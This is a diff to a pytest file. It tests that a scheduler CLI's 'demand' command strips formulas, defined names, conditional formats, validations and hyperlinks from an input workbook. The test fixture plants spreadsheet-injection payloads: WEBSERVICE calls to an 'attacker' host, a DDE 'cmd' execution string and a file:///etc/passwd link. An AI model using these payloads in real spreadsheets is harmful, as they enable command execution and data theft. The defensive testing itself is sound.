@@ -14,12 +14,17 @@ import csv
 import datetime as dt
 import re
 import shutil
+import zipfile
 from collections.abc import Iterator
 from pathlib import Path
 
 import openpyxl
 import pytest
 from openpyxl import Workbook
+from openpyxl.formatting.rule import FormulaRule
+from openpyxl.styles import Font
+from openpyxl.workbook.defined_name import DefinedName
+from openpyxl.worksheet.datavalidation import DataValidation
 from typer.testing import CliRunner
 
 from scheduler.cli import app
@@ -259,6 +264,7 @@ def test_demand_copies_values_not_formulas_from_an_input_workbook(tmp_path: Path
     book = openpyxl.load_workbook(program)
     book["Zones"]["B2"] = '=HYPERLINK("http://x","North")'
     book.save(program)
+    _save_computed_value(program, "B2", "North")
     calls = tmp_path / "calls.csv"
     _calls(calls).write_text(
         calls.read_text(encoding="utf-8").replace("=N", "N").replace("@S", "S"), encoding="utf-8"
@@ -269,3 +275,76 @@ def test_demand_copies_values_not_formulas_from_an_input_workbook(tmp_path: Path
 
     assert list(_formula_cells(program))  # the input does hold one
     assert list(_formula_cells(demand)) == []
+    assert openpyxl.load_workbook(demand)["Zones"]["B2"].value == "North"
+
+
+def _save_computed_value(path: Path, cell: str, value: str) -> None:
+    """Store the text value Excel would have saved with the formula in `cell` (openpyxl
+    saves a formula without one, which the reader refuses as not computed)."""
+    formula = re.compile(rf'<c r="{cell}"([^>]*)><f>(.*?)</f><v ?/>'.encode())
+    computed = rf'<c r="{cell}"\1 t="str"><f>\2</f><v>{value}</v>'.encode()
+    rewritten = path.with_suffix(".tmp")
+    with zipfile.ZipFile(path) as source, zipfile.ZipFile(rewritten, "w") as target:
+        for entry in source.infolist():
+            data = source.read(entry)
+            if entry.filename.startswith("xl/worksheets/") and b"HYPERLINK" in data:
+                data, count = formula.subn(computed, data)
+                assert count == 1, entry.filename
+            target.writestr(entry, data)
+    rewritten.replace(path)
+
+
+#: A text cell that Excel would run as a DDE command if it lost its text type.
+DDE_TEXT = "=cmd|' /C calc'!A0"
+
+
+def _hostile_input_workbook(path: Path) -> Path:
+    """The small program as a workbook with formulas and links where no cell shows them."""
+    _ok(["sample", str(DATA / "valid" / "small"), "--out", str(path)])
+    book = openpyxl.load_workbook(path)
+    book.defined_names["Leak"] = DefinedName("Leak", attr_text='WEBSERVICE("http://attacker/n")')
+    staff = book["Staff"]
+    staff.conditional_formatting.add(
+        "A2:A10", FormulaRule(formula=['WEBSERVICE("http://attacker/cf")'], font=Font(b=True))
+    )
+    validation = DataValidation(type="custom", formula1='WEBSERVICE("http://attacker/dv")')
+    validation.add("C2:C10")
+    staff.add_data_validation(validation)
+    book["Zones"]["B2"].hyperlink = "file:///etc/passwd"
+    staff["B3"] = DDE_TEXT
+    staff["B3"].data_type = "s"  # text, as another program could store it: no quote prefix
+    book.save(path)
+    return path
+
+
+def test_demand_copies_no_formula_link_or_rule_from_an_input_workbook(tmp_path: Path) -> None:
+    program = _hostile_input_workbook(tmp_path / "program.xlsx")
+    given = openpyxl.load_workbook(program)
+    assert given["Staff"]["B3"].value == DDE_TEXT and not given["Staff"]["B3"].quotePrefix
+    calls = tmp_path / "calls.csv"
+    _calls(calls).write_text(
+        calls.read_text(encoding="utf-8").replace("=N", "N").replace("@S", "S"), encoding="utf-8"
+    )
+    demand = tmp_path / "demand.xlsx"
+
+    _ok(["demand", "--inputs", str(program), "--calls", str(calls), "--out", str(demand)])
+
+    book = openpyxl.load_workbook(demand)
+    assert list(book.defined_names) == []
+    for sheet in book.worksheets:
+        assert list(sheet.defined_names) == [], sheet.title
+        assert list(sheet.conditional_formatting) == [], sheet.title
+        assert sheet.data_validations.dataValidation == [], sheet.title
+        assert sheet._hyperlinks == [], sheet.title
+        assert [c.coordinate for row in sheet.iter_rows() for c in row if c.hyperlink] == []
+    assert list(_formula_cells(demand)) == []
+    name = book["Staff"]["B3"]
+    assert (name.value, name.data_type, name.quotePrefix) == (DDE_TEXT, "s", True)
+    # Nothing of the links is left anywhere in the file, and the values are the same.
+    with zipfile.ZipFile(demand) as archive:
+        parts = {entry: archive.read(entry) for entry in archive.namelist()}
+    assert [entry for entry, data in parts.items() if b"attacker" in data] == []
+    assert [entry for entry, data in parts.items() if b"etc/passwd" in data] == []
+    assert book.sheetnames[: len(given.sheetnames)] == given.sheetnames
+    written, read = read_problem(demand), read_problem(program)
+    assert (written.staff, written.zones, written.shifts) == (read.staff, read.zones, read.shifts)
